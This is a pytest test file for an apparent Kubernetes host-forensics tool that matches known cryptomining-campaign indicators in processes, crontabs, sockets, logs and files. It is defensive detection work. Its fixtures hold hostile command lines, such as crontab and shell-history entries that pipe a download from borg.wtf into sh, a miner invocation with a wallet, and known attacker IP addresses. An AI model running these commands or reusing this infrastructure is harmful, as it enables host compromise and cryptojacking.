"""Indicators on a machine: every kind of trace, and who only knows a value because it is bad."""

from __future__ import annotations

from typing import Any

import pytest

from kubewitness.detect.host.finding import HostFinding
from kubewitness.detect.indicators.index import Index
from kubewitness.detect.indicators.indicator import Indicator
from kubewitness.detect.indicators.on_hosts import findings
from kubewitness.detect.indicators.pack import shipped
from kubewitness.model.evidence import Place
from kubewitness.model.host import (
    CronEntry,
    FileEntry,
    Host,
    HostEvent,
    HostFile,
    LogLine,
    Process,
    Socket,
)

HERE = Place("node/item", 3, 40, 10)
DIGEST = "3928c5874249cc71b2d88e5c0c00989ac394238747bb7638897fc210531b4aab"
CONTAINER = "a" * 64
INDEX = Index(shipped().indicators)


def found(**lists: Any) -> list[HostFinding]:
    return findings(Host("node1", **lists), INDEX)


@pytest.mark.parametrize(
    ("lists", "value"),
    [
        ({"processes": [Process(7, "sh /tmp/.x1mr", HERE)]}, "/tmp/.x1mr"),
        ({"processes": [Process(7, "./a", HERE, executable="/var/tmp/.system (deleted)")]}, "/var/tmp/.system"),
        ({"processes": [Process(7, "kdevtmpfsi", HERE, name="kdevtmpfsi")]}, "kdevtmpfsi"),
        ({"processes": [Process(7, "[kworker/08:15-events]", HERE)]}, "kworker/08:15-events"),
        ({"sockets": [Socket("tcp", "ESTAB", "10.0.0.1", 9, "45.9.148.35", 443, HERE)]}, "45.9.148.35"),
        ({"events": [HostEvent("network_connection", "falco", HERE, address="45.9.148.35", port=80)]}, "45.9.148.35"),
        ({"events": [HostEvent("command", "shell_history", HERE, command="wget borg.wtf/aws.sh")]}, "borg.wtf"),
        ({"events": [HostEvent("file_event", "falco", HERE, path="/etc/rig.so")]}, "/etc/rig.so"),
        ({"listing": [FileEntry("/tmp/.x2mr", HERE)]}, "/tmp/.x2mr"),
        ({"listing": [FileEntry("/bin/a", HERE, sha256=DIGEST)]}, DIGEST),
        ({"schedules": [CronEntry("/etc/crontab", "* * * * *", "curl -s borg.wtf/x | sh", HERE)]}, "borg.wtf"),
        ({"files": [HostFile("/etc/systemd/system/a.service", "[Service]\nExecStart=/etc/rig.so x\n", HERE)]},
         "/etc/rig.so"),
        ({"logs": [LogLine("kubelet", "", "error", "ExecSync failed",
                           {"cmd": '["curl","http://192.0.2.1/chimaera/sh/setup_xmr.sh"]'}, HERE)]}, "/chimaera/sh/"),
    ],
)  # fmt: skip
def test_an_indicator_is_found_in_every_kind_of_trace(lists: dict[str, Any], value: str) -> None:
    (one,) = found(**lists)
    assert dict(one.matched)["indicator"] == value
    assert one.rule.startswith("indicators/")
    assert one.places[0][0].item == HERE.item


@pytest.mark.parametrize(
    "lists",
    [
        {"processes": [Process(7, "grep -r 45.9.148.35 /var/log", HERE)]},
        {"processes": [Process(7, "iptables -A INPUT -s 45.9.148.35 -j DROP", HERE)]},
        {"files": [HostFile("/etc/hosts", "127.0.0.1 localhost\n0.0.0.0 borg.wtf teamtnt.red\n", HERE)]},
        {"files": [HostFile("/etc/iptables/rules.v4", "-A INPUT -s 45.9.148.35/32 -j DROP\n", HERE)]},
        {"sockets": [Socket("tcp", "ESTAB", "10.0.0.1", 9, "209.141.32.182", 443, HERE)]},  # listed with port 10300
        {"processes": [Process(7, "pause", HERE, name="pause"), Process(8, "[kworker/8:15-events]", HERE)]},
        {"listing": [FileEntry("/tmp/.x1mr.bak", HERE), FileEntry("/bin/a", HERE, sha256="0" * 64)]},
    ],
)
def test_who_blocks_or_searches_a_value_and_near_misses_stay_silent(lists: dict[str, Any]) -> None:
    assert found(**lists) == []


def test_only_the_hash_of_a_known_program_betrays_an_intruder_by_itself() -> None:
    kinds = {one.kind for one in found(processes=[Process(7, "sh /tmp/.x1mr", HERE)])}
    assert kinds == {"activity"}
    (program,) = found(processes=[Process(7, "a", HERE, sha256=DIGEST)])
    assert (program.severity, program.kind) == ("high", "intrusion")


def test_the_same_indicator_in_many_containers_is_one_finding_with_all_of_them() -> None:
    processes = [Process(n, "sh /tmp/.x1mr", HERE, container=str(n) * 64, pod_uid=f"u{n}") for n in range(1, 4)]
    (one,) = found(processes=processes)
    assert one.count == 3
    assert one.containers == tuple(process.container for process in processes)


def test_one_that_expired_before_it_was_seen_is_told_so_and_weighs_little() -> None:
    late = HostEvent("network_connection", "falco", HERE, time="2026-05-01T00:00:00.000000Z", address="45.9.148.35")
    (one,) = found(events=[late])
    assert (one.severity, one.confidence) == ("informational", "low")
    assert "expired on 2022-08-31" in one.description.en
    assert "过期" in one.description.zh
    then = HostEvent("network_connection", "falco", HERE, time="2021-05-01T00:00:00.000000Z", address="45.9.148.35")
    (other,) = found(events=[then])
    assert other.severity == "medium"


def test_a_truncated_wallet_is_told_as_one() -> None:
    wallet = "46EPFzvnX5GH61ejkPpNcRNm8kVjs8oHS9VwCkKRCrJX27XEW2y1NPLfSa54DGHxqnKfzDUVW1jzBfekk3hrCV"
    (one,) = found(processes=[Process(7, f"./.system -o pool.example:3333 -u {wallet}", HERE)])
    assert dict(one.matched)["truncated"].startswith("prefix of 46EPF")
    assert "truncated beginning" in one.description.en


def test_hostile_traces_are_bounded() -> None:
    lines = "\n".join(f"/tmp/.x1mr{number} \x1b[31m" + "a." * 50 for number in range(20_000))
    processes = [Process(n, "sh -c " + "; ".join(["/tmp/.x1mr"] * 500), HERE) for n in range(50)]
    files = [HostFile("/etc/a", lines, HERE), HostFile("/etc/b", "\x00" * 1_000_000, HERE)]
    (one,) = found(processes=processes, files=files)
    assert one.count == 50
    assert len(one.places) <= 8


CHIMAERA, WATCHDOG, GANG = "45.9.148.35", "146.71.79.230", "/tmp/.x2mr"


def every_value(campaigns: int) -> str:
    names = sorted({one.campaign for one in shipped().indicators})[:campaigns]
    return "\n".join(one.value.rstrip("*") for one in shipped().indicators if one.campaign in names)


def test_a_file_that_lists_what_is_known_is_one_informational_finding_that_says_so() -> None:
    (one,) = found(files=[HostFile("/tmp/iocs.txt", every_value(20), HERE)])
    assert (one.rule, one.severity, one.confidence, one.subject) == (
        "indicators/list", "informational", "low", "/tmp/iocs.txt",
    )  # fmt: skip
    assert "a list" in one.title.en
    assert "清单" in one.title.zh
    assert one.count > 100
    assert len(one.places) <= 8
    assert len(one.reasons) == 9
    assert "(+3)" in dict(one.matched)["campaigns"]


def test_all_of_one_campaign_in_one_file_is_one_finding() -> None:
    names = sorted({one.campaign for one in shipped().indicators})[:2]
    some = found(files=[HostFile("/root/setup.sh", every_value(2), HERE), HostFile("/root/b.sh", every_value(1), HERE)])
    assert [one.rule for one in some] == [f"indicators/{name}" for name in (*names, names[0])]
    assert all(one.count > 3 and one.reasons for one in some)
    assert " values in a file" in some[0].title.en
    assert len(dict(some[0].matched)["types"].split(", ")) > 1
    assert dict(some[0].matched)["indicator"] not in dict(some[0].matched)["also"].split(", ")


def test_one_value_in_a_file_is_told_as_before() -> None:
    (one,) = found(files=[HostFile("/root/setup.sh", "curl borg.wtf/x | sh\n", HERE)])
    assert (dict(one.matched)["indicator"], one.reasons) == ("borg.wtf", ())
    assert "also" not in dict(one.matched)


def test_values_of_one_campaign_in_different_things_stay_apart_and_like_ones_are_counted() -> None:
    command = "curl borg.wtf/a"
    some = found(
        processes=[Process(number, command, Place("ps", number, 0)) for number in range(1, 6)],
        schedules=[CronEntry("/etc/crontab", "* * * * *", command, HERE)],
        sockets=[Socket("tcp", "ESTAB", "10.0.0.1", 9, CHIMAERA, 443, HERE)],
        listing=[FileEntry("/tmp/.x1mr", HERE)],
    )
    assert [one.count for one in some] == [5, 1, 1, 1]
    assert {one.rule for one in some} == {"indicators/teamtnt-chimaera-kube"}


def test_a_line_of_a_crontab_or_history_is_not_told_a_second_time_as_a_line_of_a_file() -> None:
    line = Place("etc/crontab", 1, 0, 40)
    schedules = [CronEntry("/etc/crontab", "* * * * *", "curl -s borg.wtf/x | sh", line)]
    file = HostFile("/etc/crontab", "* * * * * root curl -s borg.wtf/x | sh\n", Place("etc/crontab", 1, 0))
    (one,) = found(schedules=schedules, files=[file])
    assert one.subject.startswith("* * * * *")


@pytest.mark.parametrize("campaigns", [2, 3])
def test_a_command_that_names_three_campaigns_is_a_list_and_hides_nothing_of_its_process(campaigns: int) -> None:
    values = (CHIMAERA, WATCHDOG, "kiss.a-dog.top")[:campaigns]
    process = Process(7, f"python3 check.py {' '.join(values)}", HERE, executable="/var/tmp/.system", sha256=DIGEST)
    some = found(processes=[process])
    assert [one.rule for one in some if one.severity == "informational"] == ["indicators/list"] * (campaigns == 3)
    assert [one.severity for one in some].count("high") == 1  # the hash of a known miner
    assert any(dict(one.matched).get("indicator") == "/var/tmp/.system" for one in some)
    assert any(dict(one.matched).get("indicator") == CHIMAERA for one in some) is (campaigns == 2)


def test_a_value_that_three_lists_know_makes_no_list() -> None:
    index = Index([Indicator("address", CHIMAERA, name, "high") for name in ("a", "b", "c")])
    some = findings(Host("n", processes=[Process(7, f"curl {CHIMAERA} | sh", HERE)]), index)
    assert {one.rule for one in some} == {f"indicators/{name}" for name in "abc"}
